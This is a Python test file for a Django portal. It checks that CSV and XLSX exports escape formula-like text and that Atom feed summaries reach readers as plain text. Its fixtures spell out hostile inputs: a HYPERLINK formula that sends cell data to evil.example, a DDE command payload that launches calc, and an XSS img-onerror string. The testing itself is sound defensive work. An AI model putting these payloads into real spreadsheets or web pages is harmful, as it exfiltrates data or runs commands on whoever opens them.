"""Spreadsheets the portal writes never carry a live formula from a partner's or anyone's text."""

import csv
import io

import openpyxl
import pytest
from tablib import Dataset

from massnahmen.models import Massnahme, Status
from massnahmen.resources import MassnahmeResource

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"


@pytest.fixture
def hostile():
    massnahme = Massnahme.objects.get(external_id="zw2020-04")
    massnahme.progress_note_de, massnahme.next_steps_de = COMMAND, SUM
    massnahme.description_de = "\tTab voran"
    massnahme.save()
    massnahme.change_status(Status.LAUFEND, note=HYPERLINK)
    return Massnahme.objects.get(pk=massnahme.pk)


def rows(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_open_data_csv_writes_formula_like_text_as_text(client, hostile):
    measure = next(row for row in rows(client.get("/de/massnahmen/daten.csv")) if row["id"] == str(hostile.pk))
    assert measure["progress_note"] == "'" + COMMAND
    assert measure["next_steps"] == "'" + SUM
    assert measure["description"] == "'\tTab voran"
    assert measure["id"] == str(hostile.pk) and measure["title"] == hostile.title_de  # the rest untouched
    changes = [row for row in rows(client.get("/de/massnahmen/statusaenderungen.csv"))
               if row["measure_id"] == str(hostile.pk)]
    assert changes[0]["note"] == "'" + HYPERLINK
    assert all(not cell.startswith(("=", "+", "@")) for row in changes for cell in row.values())


def test_admin_xlsx_export_has_no_formula_and_imports_back_unchanged(hostile, staff_user):
    resource = MassnahmeResource()
    dataset = resource.export(queryset=Massnahme.objects.filter(pk=hostile.pk))
    sheet = openpyxl.load_workbook(io.BytesIO(dataset.export("xlsx"))).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert "'" + COMMAND in cells and "'" + SUM in cells
    assert all(cell.data_type != "f" for cell in cells.values())  # openpyxl writes "=…" as a formula
    back = Dataset().load(dataset.export("xlsx"), format="xlsx")
    result = resource.import_data(back, dry_run=False, user=staff_user)
    assert not result.has_errors() and not result.has_validation_errors()
    again = Massnahme.objects.get(pk=hostile.pk)
    assert (again.progress_note_de, again.next_steps_de) == (COMMAND, SUM)
    assert again.version == hostile.version  # nothing changed: the row was skipped


def test_feed_summaries_are_text_not_markup(client):
    """A partner's note reaches feed readers as text: never as HTML they would render."""
    from xml.etree import ElementTree

    note = '<img src=x onerror="alert(1)"> & <b>fett</b>'
    Massnahme.objects.get(external_id="zw2020-04").change_status(Status.LAUFEND, note=note)
    feed = ElementTree.fromstring(client.get("/de/massnahmen/feed/").content)
    atom = "{http://www.w3.org/2005/Atom}"
    summary = feed.find(f"{atom}entry/{atom}summary")
    assert summary.get("type") == "text" and summary.text == note
    assert not feed.findall(f".//{atom}summary[@type='html']")
